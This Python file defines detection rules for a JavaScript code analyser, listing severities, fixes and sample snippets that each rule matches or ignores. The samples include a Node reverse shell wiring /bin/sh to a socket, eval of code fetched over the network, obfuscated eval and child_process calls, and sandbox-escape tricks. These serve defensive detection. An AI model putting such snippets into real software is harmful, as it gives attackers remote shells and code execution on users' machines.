"""Rules: programs and code that are run."""

from __future__ import annotations

from engine.analysis.javascript.declare import ABUSE, CRITICAL, HIGH, MEDIUM, rule

CHILD_PROCESS = rule(
    "js-child-process",
    "Starts other programs",
    "process",
    MEDIUM,
    attack="Leaves JavaScript, and everything that watches it, for the shell.",
    why="MEDIUM: the program's own words are judged where they are known; HIGH where they are decoded.",
    fix="Do the work in JavaScript.",
    match=(
        "require('child_process').exec(cmd)",
        "import { spawn } from 'node:child_process'; spawn('ls')",
        "const cp = require('child_' + 'process'); cp['ex' + 'ec']('id')",
        "require('execa')('ls')",
        "Bun.spawn(cmd)",
    ),
    not_match=("/a/.exec(text)", "db.exec('SELECT 1')", "const exec = f; exec(1)"),
    cwe=78,
)
EVAL = rule(
    "js-eval",
    "Runs text as code",
    "exec_eval",
    MEDIUM,
    attack="Whoever can shape the text decides what runs.",
    why="MEDIUM: the text is unknown; LOW where it is known, and judged itself; HIGH where it was decoded.",
    fix="Parse data as JSON; call functions by name from a list.",
    match=(
        "eval(x)",
        "new Function('a', body)",
        "(0, eval)(x)",
        "globalThis['ev' + 'al'](x)",
        "setTimeout('alert(' + x + ')', 1)",
        "require('vm').runInNewContext(x)",
    ),
    not_match=("evaluate(x)", "setTimeout(() => f(), 1)", "JSON.parse(x)", "obj.eval = 1"),
    cwe=95,
    owasp=ABUSE,
)
REMOTE_EVAL = rule(
    "js-remote-code",
    "Runs what it downloads",
    "exec_eval",
    CRITICAL,
    attack="Whoever controls the server, or the way to it, decides what runs.",
    why="CRITICAL: the code that runs is not the code that is reviewed.",
    fix="Send the code itself for review.",
    match=(
        "fetch(u).then(r => r.text()).then(t => eval(t))",
        "require('http').get(u, r => r.on('data', d => new Function(d)()))",
        "import('https://x.test/a.mjs')",
    ),
    not_match=("fetch(u).then(r => r.json())", "import('./a.mjs')"),
    cwe=494,
    owasp=ABUSE,
)
DYNAMIC_MODULE = rule(
    "js-dynamic-module",
    "Loads a module whose name is only known when the code runs",
    "exec_eval",
    MEDIUM,
    attack="Loads child_process, or a file of the attacker's, under a name that no search finds.",
    why="MEDIUM: plug-in loaders do it too.",
    fix="Write the module's name.",
    match=("require(name)", "import(path)", "require(base + '/x')"),
    not_match=("require('fs')", "require(__dirname + '/utils')", "const d = 'a'; require(`lodash/${d}`)"),
    cwe=829,
)
INTERNALS = rule(
    "js-internals",
    "Reaches for the internals of the runtime",
    "escape",
    HIGH,
    attack="Gets at modules and native code past `require` and whatever guards it.",
    why="HIGH: no program needs these doors; they are the known ways out of a JavaScript sandbox.",
    fix="Use `require` or `import`.",
    match=(
        "process.binding('spawn_sync')",
        "process.mainModule.require('fs')",
        "module.constructor._load('fs')",
        "process.dlopen(m, 'a.node')",
        "require('inspector').open()",
    ),
    not_match=("require('module')", "process.version", "require.main === module"),
    cwe=693,
)
WORKER = rule(
    "js-worker",
    "Runs code in a worker or as WebAssembly",
    "exec_eval",
    MEDIUM,
    attack="Runs code where this analysis does not look, or binary code that nobody reads.",
    why="MEDIUM: honest uses are many; the content is unknown.",
    fix="Send the source.",
    match=(
        "new WebAssembly.Module(bytes)",
        "new Worker('a', { eval: true })",
        "WebAssembly.instantiate(b)",
        "new (require('worker_threads').Worker)(f)",
    ),
    not_match=("new Job('a')", "const wasm = 1"),
    cwe=829,
)
REVERSE = rule(
    "js-reverse-shell",
    "Hands a shell to another machine",
    "reverse_shell",
    CRITICAL,
    attack="Gives whoever listens at the other end a command line on this machine.",
    why="CRITICAL: there is no honest reason to join a shell's input and output to a socket.",
    fix="Remove it.",
    match=(
        "s = require('child_process').spawn('/bin/sh'); c = require('net').connect(1, 'h'); c.pipe(s.stdin)",
        "require('net').createServer(c => c.pipe(require('child_process').spawn('bash').stdin)).listen(1)",
    ),
    not_match=(
        "require('child_process').spawn('ls').stdout.pipe(process.stdout)",
        "require('net').connect(1, 'h').pipe(process.stdout)",
    ),
    cwe=506,
)
PROCESS = rule(
    "js-process-control",
    "Kills processes or changes who it runs as",
    "process_kill",
    MEDIUM,
    attack="Stops services or guards, or drops and takes rights.",
    why="MEDIUM: the sandbox has only its own processes.",
    fix="End by returning.",
    match=("process.kill(pid)", "process.setuid(0)", "process.abort()"),
    not_match=("process.exit(0)", "process.cwd()", "game.kill(player)"),
    cwe=400,
)
RULES = (CHILD_PROCESS, EVAL, REMOTE_EVAL, DYNAMIC_MODULE, INTERNALS, WORKER, REVERSE, PROCESS)
